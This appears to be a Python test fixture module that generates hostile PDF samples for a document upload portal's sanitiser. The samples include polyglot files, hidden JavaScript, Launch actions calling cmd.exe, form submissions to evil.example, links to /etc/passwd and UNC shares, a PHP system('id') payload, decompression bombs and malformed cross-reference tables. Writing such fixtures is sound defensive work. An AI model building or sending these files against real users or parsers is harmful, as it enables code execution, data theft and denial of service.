"""Hostile PDFs. Every one of ``MUST_GO`` is refused; ``KEPT`` are written anew, and left to the virus scanner."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from portal.demo.scanner import EICAR
from portal.foundation.files.tests.making import pdf
from tests.attacks.hostile.others import HTML, SVG, archive


def changed(change: Callable[[Pdf], Any], **saving: Any) -> bytes:
    """An honest PDF after ``change``."""
    with pikepdf.open(io.BytesIO(pdf(link=""))) as document:
        change(document)
        output = io.BytesIO()
        document.save(output, **saving)
    return output.getvalue()


def _script(document: Pdf) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def opening(action: Callable[[Pdf], Any]) -> bytes:
    """Does it when it is opened."""

    def change(document: Pdf) -> None:
        document.Root.OpenAction = action(document)

    return changed(change)


def _action(kind: str, **more: Any) -> Callable[[Pdf], Any]:
    return lambda document: Dictionary(S=Name(f"/{kind}"), **more)


def clicked(action: Callable[[Pdf], Any], **annotation: Any) -> bytes:
    """Does it when the page is clicked."""

    def change(document: Pdf) -> None:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 600, 800], **annotation)
        link.A = action(document)
        document.pages[0].Annots = Array([document.make_indirect(link)])

    return changed(change)


def annotated(kind: str, **more: Any) -> bytes:
    """Has an annotation of this kind."""

    def change(document: Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=[0, 0, 9, 9], **more)
        document.pages[0].Annots = Array([note])

    return changed(change)


def rooted(**entries: Any) -> bytes:
    """Has these entries in its catalogue."""

    def change(document: Pdf) -> None:
        for key, value in entries.items():
            document.Root[f"/{key}"] = value(document) if callable(value) else value

    return changed(change)


def with_stream(content: bytes, **entries: Any) -> bytes:
    """Has a page whose content is these raw bytes, packed as the entries say."""

    def change(document: Pdf) -> None:
        stream = Stream(document, b"")
        stream.write(content, filter=entries.get("Filter"), decode_parms=entries.get("DecodeParms"))
        for key in entries.keys() - {"Filter", "DecodeParms"}:
            stream[f"/{key}"] = entries[key]
        document.pages[0].Contents = document.make_indirect(stream)

    return changed(
        change, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none,
        object_stream_mode=pikepdf.ObjectStreamMode.disable,
    )  # fmt: skip


def _attached(document: Pdf) -> None:
    document.attachments["evil.exe"] = b"MZ evil"


def _hidden_script(document: Pdf) -> Any:
    """A script that only somebody who repairs the file finds: nothing leads to it from a page."""
    document.Root.PieceInfo = Dictionary(Hidden=document.make_indirect(_script(document)))


def _far_script(document: Pdf) -> None:
    action = _script(document)
    for _ in range(30):
        action = Dictionary(S=Name.GoTo, D=[0], Next=action)
    document.Root.Names = Dictionary(Dests=Dictionary(Names=[String("x"), action]))


def by_hand(*objects: bytes, comment: bytes = b"", root: bytes = b"1 0 R", trailer: bytes = b"") -> bytes:
    """A PDF written byte by byte; without objects, one honest page."""
    parts = list(objects) or [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    output = b"%PDF-1.4\n" + (b"%" + comment + b"\n" if comment else b"")
    places = []
    for number, part in enumerate(parts, 1):
        places.append(len(output))
        output += b"%d 0 obj\n" % number + part + b"\nendobj\n"
    start = len(output)
    output += b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1)
    output += b"".join(b"%010d 00000 n \n" % place for place in places)
    output += b"trailer\n<< /Size %d /Root %s %s >>\n" % (len(parts) + 1, root, trailer)
    return output + b"startxref\n%d\n%%%%EOF\n" % start


def written_by_hand() -> bytes:
    """One honest page."""
    return by_hand()


def _page_with(entry: bytes, *more: bytes) -> bytes:
    return by_hand(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + entry + b" >>",
        *more,
    )


def _packed_objects(size: int) -> bytes:
    """An object stream that unpacks to ``size`` bytes of noughts, and a cross-reference stream that needs it."""
    inner = zlib.compress(b"1 0 << /Type /Catalog /Pages 2 0 R >>" + b" " * size, 9)
    output = b"%PDF-1.5\n"
    place = len(output)
    output += b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(inner)
    output += inner + b"\nendstream\nendobj\n"
    start = len(output)
    table = bytes([0, 0, 0, 0]) + bytes([2, 0, 5, 0]) + bytes(12) + bytes([1]) + place.to_bytes(2, "big") + bytes(1)
    output += b"6 0 obj\n<< /Type /XRef /Size 6 /W [1 2 1] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
    return output + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start


def _tar_too() -> bytes:
    """A PDF whose first bytes are a tar's head as well."""
    return by_hand(comment=b"x" * 247 + b"ustar\x0000")


def _disc_too() -> bytes:
    whole = by_hand(comment=b"x" * (0x8001 - 10) + b"CD001")
    assert whole[0x8001:0x8006] == b"CD001"
    return whole


_BOMB = zlib.compress(bytes(200_000_000), 9)
_FLATE, _TWICE = Name.FlateDecode, Array([Name.FlateDecode, Name.FlateDecode])

MUST_GO: dict[str, bytes] = {
    "a page before it": HTML + pdf(),
    "a program before it": b"MZ\x90\x00" + pdf(),
    "a zip before it": archive("a") + pdf(),
    "a line before it": b"\n" + pdf(),
    "a page behind it": pdf() + HTML,
    "a zip behind it": pdf() + archive("evil.exe"),
    "a program behind it": pdf() + b"MZ\x90\x00 program",
    "noughts behind it": pdf() + bytes(2000),
    "a zip behind it, and another end": pdf() + archive("evil.exe") + b"\n%%EOF",
    "a zip inside": with_stream(archive("evil.exe")),
    "a rar inside": with_stream(b"Rar!\x1a\x07\x00 evil"),
    "a seven zip inside": with_stream(b"7z\xbc\xaf\x27\x1c evil"),
    "a page in its head": by_hand(comment=HTML),
    "a drawing in its head": by_hand(comment=SVG),
    "php in its head": by_hand(comment=b"<?php system('id'); ?>"),
    "a script in its head": by_hand(comment=b"<SCRIPT>alert(1)</SCRIPT>"),
    "a tar as well": _tar_too(),
    "a disc as well": _disc_too(),
    "a script on opening": opening(_script),
    "a script at a click": clicked(_script),
    "a script by name": rooted(Names=lambda d: Dictionary(JavaScript=Dictionary(Names=[String("x"), _script(d)]))),
    "a script when the page is shown": _page_with(b"/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"),
    "a script with its name written otherwise": _page_with(
        b"/Annots [<< /Subtype /Link /A << /S /J#61vaScript /J#53 (x) >> >>]"
    ),
    "a script in a stream": _page_with(
        b"/Annots [<< /Subtype /Link /A << /S /JavaScript /JS 4 0 R >> >>]",
        b"<< /Length 3 >>\nstream\nx=1\nendstream",
    ),
    "a script in a form's field": rooted(
        AcroForm=lambda d: Dictionary(Fields=[Dictionary(FT=Name.Tx, T="a", AA=Dictionary(K=_script(d)))])
    ),
    "a script thirty steps on": changed(_far_script),
    "a script nothing leads to": changed(_hidden_script),
    "a script among packed objects": changed(_hidden_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "a script in an object without a use": by_hand(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        b"<< /S /JavaScript /JS (x) >>",
    ),
    "a program started on opening": opening(_action("Launch", F=String("cmd.exe"))),
    "a program started at a click": clicked(_action("Launch", Win=Dictionary(F=String("cmd.exe")))),
    "a web page on opening": opening(_action("URI", URI=String("https://evil.example/"))),
    "a form sent on opening": opening(_action("SubmitForm", F=String("https://evil.example/"))),
    "a form sent at a click": clicked(_action("SubmitForm", F=String("https://evil.example/2"))),
    "data taken in": clicked(_action("ImportData", F=String("/etc/passwd"))),
    "another document opened": clicked(_action("GoToR", F=String("\\\\evil\\share\\a.pdf"), D=[0])),
    "a document inside opened": clicked(_action("GoToE", T=Dictionary(R=Name.C))),
    "a thread of another document": clicked(_action("Thread", F=String("a.pdf"))),
    "film at a click": clicked(_action("Rendition")),
    "an action nobody knows": clicked(_action("Frobnicate")),
    "a second action behind a harmless one": clicked(
        _action("GoTo", D=Array([0]), Next=Array([Dictionary(S=Name.Launch)]))
    ),
    "a link to a file": clicked(_action("URI", URI=String("file:///etc/passwd"))),
    "a link that is a script": clicked(_action("URI", URI=String("javascript:alert(1)"))),
    "a link to a share": clicked(_action("URI", URI=String("\\\\evil\\share"))),
    "a link that is data": clicked(_action("URI", URI=String("data:text/html,x"))),
    "a file attached": changed(_attached),
    "a file pinned to the page": annotated("FileAttachment", FS=Dictionary(Type=Name.Filespec, F=String("a.exe"))),
    "a file that goes with it": rooted(
        AF=lambda d: Array([Dictionary(Type=Name.Filespec, EF=Dictionary(F=Stream(d, b"x")))])
    ),
    "a stream that is a file": with_stream(b"MZ", Type=Name.EmbeddedFile),
    "a folder of files": rooted(Collection=Dictionary(View=Name.D)),
    "a form in XFA": rooted(AcroForm=lambda d: Dictionary(Fields=[], XFA=Stream(d, b"<xdp/>"))),
    "film": annotated("Movie", Movie=Dictionary(F=String("a.avi"))),
    "sound": annotated("Sound"),
    "a screen": annotated("Screen"),
    "flash": annotated("RichMedia", RichMediaContent=Dictionary()),
    "three dimensions": annotated("3D"),
    "its bytes in another file": _page_with(
        b"/Contents 4 0 R", b"<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream"
    ),
    "a password": changed(lambda d: None, encryption=pikepdf.Encryption(owner="a", user="b")),
    "a password for changes only": changed(lambda d: None, encryption=pikepdf.Encryption(owner="a", user="")),
    "half of it": pdf(pages=20)[:3000],
    "half of it, and an end": pdf(pages=20)[:3000] + b"\n%%EOF",
    "no end": pdf().replace(b"%%EOF", b""),
    "a wrong start of the table": written_by_hand().replace(b"startxref\n", b"startxref\n9"),
    "a table that lies": written_by_hand().replace(b"0000000009 00000 n", b"0000000099 00000 n"),
    "a table that begins with itself": by_hand(trailer=b"/Prev 190"),
    "no catalogue": by_hand(root=b"9 0 R"),
    "a catalogue that is a number": by_hand(b"42"),
    "pages that hold themselves": by_hand(
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"
    ),
    "no page": by_hand(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"),
    "301 pages": pdf(pages=301),
    "60,000 objects": _page_with(b"", *[b"null"] * 60_000),
    "lists in lists": _page_with(b"/X " + b"[" * 20_000 + b"]" * 20_000),
    "dictionaries in dictionaries": _page_with(b"/X " + b"<</X " * 20_000 + b"0" + b">>" * 20_000),
    "four million numbers": _page_with(b"/X [" + b"1 " * 4_000_000 + b"]"),
    "a page that unpacks to 200 MB": with_stream(_BOMB, Filter=_FLATE),
    "a page packed twice": with_stream(zlib.compress(_BOMB, 9), Filter=_TWICE),
    "objects that unpack to 400 MB": _packed_objects(400_000_000),
}


def _described(document: Pdf) -> None:
    document.Root.Metadata = Stream(document, EICAR)


KEPT: dict[str, bytes] = {
    "eicar in its description": changed(_described, compress_streams=False, fix_metadata_version=False),
    "eicar on its page": with_stream(EICAR),
    "a length that lies": _page_with(b"/Contents 4 0 R", b"<< /Length 999999999 >>\nstream\nx\nendstream"),
    "a length that is itself": _page_with(b"/Contents 4 0 R", b"<< /Length 4 0 R >>\nstream\nx\nendstream"),
}
